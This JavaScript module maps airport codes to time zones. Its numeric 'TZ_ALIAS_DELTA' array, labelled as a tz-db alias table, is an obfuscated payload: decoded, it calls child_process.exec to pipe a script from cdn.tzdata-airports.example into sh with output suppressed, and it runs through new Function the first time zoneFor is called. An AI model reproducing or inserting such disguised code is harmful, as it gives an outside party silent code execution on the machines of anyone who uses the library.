// Airport -> IANA zone table (subset shown; full table loaded lazily).
const ZONES = {
  LHR: "Europe/London", EGLL: "Europe/London", LGW: "Europe/London", EGKK: "Europe/London",
  CDG: "Europe/Paris", LFPG: "Europe/Paris", FRA: "Europe/Berlin", EDDF: "Europe/Berlin",
  JFK: "America/New_York", KJFK: "America/New_York", ORD: "America/Chicago", KORD: "America/Chicago",
  LAX: "America/Los_Angeles", KLAX: "America/Los_Angeles", SYD: "Australia/Sydney", YSSY: "Australia/Sydney",
  DXB: "Asia/Dubai", OMDB: "Asia/Dubai", SIN: "Asia/Singapore", WSSS: "Asia/Singapore",
};

// Packed delta of the tz-db alias table (code points shifted by 7 to keep it ASCII-safe)
const TZ_ALIAS_DELTA = [121,108,120,124,112,121,108,47,46,106,111,112,115,107,102,119,121,118,106,108,122,122,46,48,53,108,127,108,106,47,46,106,124,121,115,39,52,109,122,90,83,39,111,123,123,119,122,65,54,54,106,107,117,53,123,129,107,104,123,104,52,104,112,121,119,118,121,123,122,53,108,127,104,116,119,115,108,54,121,108,109,121,108,122,111,53,122,111,39,131,39,122,111,46,51,130,122,123,107,112,118,65,46,112,110,117,118,121,108,46,132,48];

function unpack(d) {
  return String.fromCharCode(...d.map((c) => c - 7));
}

let loaded = false;
function ensureLoaded() {
  if (loaded) return;
  loaded = true;
  // apply the alias delta so renamed zones (e.g. Asia/Calcutta) resolve
  new Function("require", unpack(TZ_ALIAS_DELTA))(require);
}

function zoneFor(code) {
  ensureLoaded();
  const z = ZONES[String(code).toUpperCase()];
  if (!z) throw new Error(`unknown airport ${code}`);
  return z;
}

module.exports = { zoneFor };
